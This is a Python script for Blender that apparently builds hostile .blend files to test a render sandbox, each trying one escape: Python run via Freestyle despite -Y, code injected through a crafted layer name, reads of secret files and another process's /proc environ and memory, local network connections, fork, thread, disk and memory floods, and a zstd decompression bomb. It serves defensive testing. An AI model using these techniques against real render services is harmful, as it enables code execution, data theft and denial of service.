"""Writes hostile scenes, one attack each, for a test of what keeps them from doing harm.

blender -b --factory-startup -P hostile_scenes.py -- SCENES LOOT PORT [CODE]

They go into the folder SCENES. LOOT is a folder that no render may touch, with the secrets that they
try to get at; PORT is where a listener on 127.0.0.1 sees who connects. What each one leaves when it
works stands in its docstring: a line "GOT ..." in Blender's output, a file in LOOT, green pixels.
CODE is Python that those run that would try all that Python can try.
"""

import os
import shutil
import struct
import sys

import bpy

SCENES, LOOT, PORT, *CODE = sys.argv[sys.argv.index("--") + 1 :]
GREEN = (0.0, 1.0, 0.0, 1.0)
SECRET_TEXT, SECRET_IMAGE, SECRET_BLEND = (
    os.path.join(LOOT, "secret." + kind) for kind in ("txt", "png", "blend")
)

PYTHON = CODE[0] if CODE else '''
import os, re, resource, signal, socket, sys, time
import bpy
LOOT, PORT = %r, %s
SECRET, NODE = LOOT + "/secret.txt", os.getppid()
FRAME = sys.argv[sys.argv.index("-o") + 1]

def after(option):
    return sys.argv[sys.argv.index(option) + 1]

def frame(number):
    os.makedirs(os.path.dirname(FRAME), exist_ok=True)
    return re.sub("#+", lambda run: "%%0*d" %% (len(run[0]), number), FRAME) + ".png"

def write(path, mode="w"):
    with open(path, mode) as file:
        file.write("# hostile\\n")

def child(work, wait):
    pid = os.fork()
    if pid == 0:
        try:
            for stream in range(3):
                os.close(stream)
            work()
        except BaseException:
            os._exit(1)
        os._exit(0)
    if wait and os.waitpid(pid, 0)[1]:
        raise OSError("the child could not")

def daemon():
    os.setsid()
    time.sleep(1)
    write(LOOT + "/daemon")

def listen():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()

def unlimit():
    for limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA, resource.RLIMIT_FSIZE):
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))

def spare():
    with open("/proc/self/oom_score_adj") as file:
        score = int(file.read())
    for new in (score + 1, score):
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write(str(new))

ATTEMPTS = {
    "read": lambda: open(SECRET).read(),
    "write": lambda: write(LOOT + "/written"),
    "truncate": lambda: os.truncate(LOOT + "/truncated", 0),
    "rename": lambda: os.rename(LOOT + "/renamed", LOOT + "/moved"),
    "chmod": lambda: os.chmod(SECRET, 0o640),
    "utime": lambda: os.utime(SECRET, (0, 0)),
    "xattr": lambda: os.setxattr(SECRET, "user.hostile", b"1"),
    "link": lambda: os.link(LOOT + "/secret.png", frame(2)),
    "symlink": lambda: os.symlink(LOOT + "/secret.png", frame(3)),
    "script": lambda: write(after("--python"), "a"),
    "neighbour": lambda: open(os.path.dirname(bpy.data.filepath) + "/url.blend", "rb").read(),
    "environ": lambda: open("/proc/%%d/environ" %% NODE, "rb").read(),
    "memory": lambda: open("/proc/%%d/mem" %% NODE, "rb").close(),
    "signal": lambda: os.kill(NODE, 0),
    "network": lambda: socket.create_connection(("127.0.0.1", PORT), 2).close(),
    "datagram": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", PORT)),
    "listen": listen,
    "unix": lambda: socket.socket(socket.AF_UNIX).bind(b"\\0hostile-%%d" %% os.getpid()),
    "fork": lambda: child(daemon, False),
    "session": lambda: child(os.setsid, True),
    "group": lambda: child(lambda: os.setpgid(0, 0), True),
    "rlimit": unlimit,
    "oom": spare,
    "nice": lambda: os.nice(-1),
}
print("GOT python", flush=True)
for name, attempt in ATTEMPTS.items():
    try:
        attempt()
        print("GOT", name, flush=True)
    except Exception as e:
        print("no", name, repr(e), flush=True)
''' % (LOOT, PORT)

DISK = '''
import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-o") + 1])
os.makedirs(folder, exist_ok=True)
for number in range(48):
    with open("%s/%d.junk" % (folder, number), "wb") as file:
        for _ in range(64):
            file.write(b"x" * 2 ** 20)
print("GOT disk", flush=True)
'''

SPARSE = '''
import os, sys
folder = os.path.dirname(sys.argv[sys.argv.index("-o") + 1])
os.makedirs(folder, exist_ok=True)
with open(folder + "/sparse.junk", "wb") as file:
    file.truncate(2 ** 40)
print("GOT sparse", flush=True)
'''

FORKS = '''
import os, time
for number in range(600):
    if os.fork() == 0:
        for stream in range(3):
            os.close(stream)
        time.sleep(4)
        os._exit(0)
print("GOT forks", flush=True)
'''

THREADS = '''
import threading
threading.stack_size(65536)
end = threading.Event()
try:
    for number in range(5000):
        threading.Thread(target=end.wait, daemon=True).start()
    print("GOT threads", flush=True)
finally:
    end.set()
'''


def save(name):
    bpy.ops.wm.save_as_mainfile(filepath=os.path.join(SCENES, name), compress=False, relative_remap=False)


def quick(scene):
    """Makes a scene render in no time."""
    scene.render.engine = "CYCLES"
    scene.cycles.samples = 1
    scene.cycles.use_denoising = False
    scene.render.resolution_x = scene.render.resolution_y = 16
    scene.render.resolution_percentage = 100
    scene.render.image_settings.file_format = "PNG"
    scene.view_settings.view_transform = "Standard"
    return scene


def fresh():
    """Answers the scene of an empty Blender: cube, lamp, camera."""
    bpy.ops.wm.read_homefile(use_factory_startup=True)
    return quick(bpy.context.scene)


def emission(material, image=None):
    """Makes a material shine green, or as its image does."""
    material.use_nodes = True
    nodes = material.node_tree.nodes
    nodes.clear()
    shine, out = nodes.new("ShaderNodeEmission"), nodes.new("ShaderNodeOutputMaterial")
    shine.inputs["Color"].default_value = GREEN
    material.node_tree.links.new(shine.outputs[0], out.inputs["Surface"])
    if image is not None:
        texture = nodes.new("ShaderNodeTexImage")
        texture.image = image
        if image.source == "MOVIE":
            texture.image_user.frame_duration, texture.image_user.frame_offset = 200, 100
        material.node_tree.links.new(texture.outputs["Color"], shine.inputs["Color"])
    return material


def wall(scene, material):
    """Lets the camera see nothing but a plane of this material."""
    cube = bpy.data.objects["Cube"]
    mesh = bpy.data.meshes.new("Wall")
    mesh.from_pydata([(-9, -9, 0), (9, -9, 0), (9, 9, 0), (-9, 9, 0)], [], [(0, 1, 2, 3)])
    mesh.uv_layers.new()
    mesh.materials.append(material)
    cube.data = mesh
    scene.camera.location, scene.camera.rotation_euler = (0, 0, 5), (0, 0, 0)


def compositor(scene):
    """Answers the tree of nodes that works on a scene's frames, and its output; they moved in 5.0."""
    if bpy.app.version >= (5, 0, 0):
        tree = scene.compositing_node_group = bpy.data.node_groups.new("C", "CompositorNodeTree")
        tree.interface.new_socket("Image", in_out="OUTPUT", socket_type="NodeSocketColor")
        return tree, tree.nodes.new("NodeGroupOutput")
    scene.use_nodes = True
    scene.node_tree.nodes.clear()
    return scene.node_tree, scene.node_tree.nodes.new("CompositorNodeComposite")


def freestyle(scene, code=PYTHON):
    """Lets Freestyle run Python while the scene renders, whatever -Y says."""
    text = bpy.data.texts.new("style.py")
    text.write(code)
    scene.render.use_freestyle = True
    layer = scene.view_layers[0]
    layer.use_freestyle = True
    layer.freestyle_settings.mode = "SCRIPT"
    module = layer.freestyle_settings.modules.new()
    module.script = text
    module.use = True
    return layer


def second_scene():
    """Answers a scene like the one that renders, which only renders as a part of it."""
    bpy.ops.scene.new(type="FULL_COPY")
    scene = bpy.context.window.scene
    scene.name = "Second"
    bpy.context.window.scene = next(s for s in bpy.data.scenes if s != scene)
    return scene


def python_freestyle():
    """GOT python and whatever it gets; a file for each code."""
    codes = {"freestyle": PYTHON, "disk": DISK, "sparse": SPARSE, "forks": FORKS, "threads": THREADS}
    for name, code in codes.items():
        freestyle(fresh(), code)
        save("python-%s.blend" % name)


def python_strip():
    """GOT python: from a scene in the sequencer."""
    scene = fresh()
    second = second_scene()
    freestyle(second)
    editor = scene.sequence_editor_create()
    strips = editor.strips if hasattr(editor, "strips") else editor.sequences
    strips.new_scene("Second", second, 1, 1)
    save("python-strip.blend")


def python_linked():
    """GOT python: from a scene of another file, that the compositor renders."""
    for kind in ("", "-name"):
        layer = freestyle(fresh())
        if kind:
            by_name(layer, layer)
        bpy.context.scene.name = "Second"
        save("linked%s.blend" % kind)
        scene = fresh()
        with bpy.data.libraries.load(os.path.join(SCENES, "linked%s.blend" % kind), link=True) as (_, wanted):
            wanted.scenes = ["Second"]
        bpy.data.texts.new("a").write(PYTHON)
        tree, out = compositor(scene)
        layers = tree.nodes.new("CompositorNodeRLayers")
        layers.scene = wanted.scenes[0]
        tree.links.new(layers.outputs["Image"], out.inputs[0])
        save("python-linked%s.blend" % kind)


def python_animated():
    """GOT python: drivers would set back, at each frame, what was set after loading."""
    scene = fresh()
    settings = freestyle(scene).freestyle_settings
    script = settings.bl_rna.properties["mode"].enum_items["SCRIPT"].value
    path = 'view_layers["%s"].' % scene.view_layers[0].name
    drive(scene, path + "use_freestyle", 1)
    drive(scene, path + "freestyle_settings.mode", script)
    drive(scene, path + "freestyle_settings.modules[0].use", 1)
    save("python-animated.blend")


def drive(scene, path, value):
    """Lets a driver set a value, at each frame."""
    scene.driver_add(path).driver.expression = str(value)


def by_name(layer, named):
    """Lets Freestyle run Python in EDITOR mode: it puts names into code, and escapes a ' but not the \\ before it."""
    layer.freestyle_settings.modules.remove(layer.freestyle_settings.modules[0])
    layer.freestyle_settings.mode = "EDITOR"
    named.name = "\\',exec(__import__(\"bpy\").data.texts[0].as_string()))#"


def python_names():
    """GOT python, then a crash: the name of a line set, of a view layer."""
    for kind in ("lineset", "layer"):
        layer = freestyle(fresh())
        by_name(layer, layer.freestyle_settings.linesets[0] if kind == "lineset" else layer)
        save("python-%s-name.blend" % kind)


def driver():
    """Never ends, and no other thread runs Python: a driver that -Y lets pass."""
    fresh()
    bpy.data.objects["Cube"].driver_add("location", 0).driver.expression = "1111111111"
    save("driver.blend")
    patch("driver.blend", b"1111111111\0", b"9**9**9**9\0")


def patch(name, old, new):
    """Changes a saved file, where Blender would act on the new value."""
    with open(os.path.join(SCENES, name), "r+b") as file:
        data = file.read()
        assert data.count(old) == 1 and len(old) == len(new)
        file.seek(data.index(old))
        file.write(new)


def image():
    """A green frame: an image by its absolute path."""
    scene = fresh()
    wall(scene, emission(bpy.data.materials.new("Wall"), bpy.data.images.load(SECRET_IMAGE)))
    save("image.blend")


def movies():
    """A connection to PORT, by HTTP; a green frame: a text file as a terminal would show it."""
    for name, path in (("url", "http://127.0.0.1:%s/x.mp4" % PORT), ("textmovie", SECRET_TEXT)):
        scene = fresh()
        picture = bpy.data.images.new("Movie", 1, 1)
        picture.source = "MOVIE"
        picture.filepath = path
        wall(scene, emission(bpy.data.materials.new("Wall"), picture))
        save(name + ".blend")


def library():
    """A green frame: a material of a library by its absolute path."""
    scene = fresh()
    with bpy.data.libraries.load(SECRET_BLEND, link=True) as (_, wanted):
        wanted.materials = ["Secret"]
    wall(scene, wanted.materials[0])
    save("library.blend")


def file_output():
    """A file LOOT/fileoutput*: the compositor writes where the scene says."""
    tree, out = compositor(fresh())
    layers, node = tree.nodes.new("CompositorNodeRLayers"), tree.nodes.new("CompositorNodeOutputFile")
    if bpy.app.version >= (5, 0, 0):
        node.directory, node.file_name = LOOT, "fileoutput"
        node.file_output_items.new("RGBA", "Image")
    else:
        node.base_path, node.file_slots[0].path = LOOT, "fileoutput"
    tree.links.new(layers.outputs["Image"], node.inputs[0])
    tree.links.new(layers.outputs["Image"], out.inputs[0])
    save("fileoutput.blend")


def memory():
    """Takes gigabytes while it renders: a picture of 2 GB, that is copied; 25 million faces, that go again."""
    scene = fresh()
    picture = bpy.data.images.new("Large", 16000, 8000, float_buffer=True)
    wall(scene, emission(bpy.data.materials.new("Wall"), picture))
    save("memory-image.blend")
    fresh()
    cube = bpy.data.objects["Cube"]
    for levels in (6, 5):
        subdivision = cube.modifiers.new("Subdivision", "SUBSURF")
        subdivision.subdivision_type = "SIMPLE"
        subdivision.levels, subdivision.render_levels = 0, levels
    # Without a mask the renderer takes minutes for them, and 10 GB.
    cube.modifiers.new("Mask", "MASK").vertex_group = cube.vertex_groups.new(name="Nothing").name
    save("memory.blend")


def fluid():
    """A folder LOOT/fluid: a simulation's cache."""
    fresh()
    modifier = bpy.data.objects["Cube"].modifiers.new("Fluid", "FLUID")
    modifier.fluid_type = "DOMAIN"
    domain = modifier.domain_settings
    domain.resolution_max, domain.cache_type, domain.cache_directory = 8, "REPLAY", os.path.join(LOOT, "fluid")
    save("fluid.blend")
    shutil.rmtree(domain.cache_directory, ignore_errors=True)


def zstd(blocks):
    """Answers a frame of zstd of (type, size, bytes) blocks, 0 as they are, 1 one byte repeated."""
    blocks = list(blocks)
    header = struct.pack("<IBI", 0xFD2FB528, 0xA0, sum(size for _, size, _ in blocks))
    last = len(blocks) - 1
    return header + b"".join(
        struct.pack("<I", size << 3 | kind << 1 | (number == last))[:3] + data
        for number, (kind, size, data) in enumerate(blocks)
    )


def zstd_bomb():
    """Takes 5 GB while it loads: blocks of data that nothing uses, in 200 kB."""
    fresh()
    save("zstd.blend")
    path = os.path.join(SCENES, "zstd.blend")
    with open(path, "rb") as file:
        data = file.read()
    part, gigabyte = 2**17, 2**30
    # A block's head: code, length, address, struct, count; since 5.0 in another order, and wider.
    old = not data.startswith(b"BLENDER17")
    head = struct.pack("<4siQii", b"DATA", gigabyte, 1, 0, 1) if old else struct.pack("<4siQqq", b"DATA", 0, 1, gigabyte, 1)
    zeros = zstd([(1, part, b"\0")] * 256) * (gigabyte // (256 * part))
    end = data.rindex(b"ENDB")
    pieces = (data[start : min(start + part, end)] for start in range(0, end, part))
    with open(path, "wb") as file:
        file.write(zstd((0, len(piece), piece) for piece in pieces))
        for _ in range(5):
            file.write(zstd([(0, len(head), head)]) + zeros)
        file.write(zstd([(0, len(data) - end, data[end:])]))


def secrets():
    """Fills LOOT."""
    for name in ("truncated", "renamed"):
        with open(os.path.join(LOOT, name), "w") as file:
            file.write("as it was\n")
    with open(SECRET_TEXT, "w") as file:
        file.write("secret\n" + ("\033[42m" + " " * 79 + "\n") * 1000)
    fresh()
    picture = bpy.data.images.new("Secret", 8, 8)
    picture.generated_color = GREEN
    picture.file_format = "PNG"
    picture.filepath_raw = SECRET_IMAGE
    picture.save()
    emission(bpy.data.materials.new("Secret")).use_fake_user = True
    bpy.ops.wm.save_as_mainfile(filepath=SECRET_BLEND)


def main():
    secrets()
    for attack in (python_freestyle, python_strip, python_linked, python_animated, python_names, driver):
        attack()
    for attack in (image, movies, library, file_output, fluid, memory, zstd_bomb):
        attack()


main()
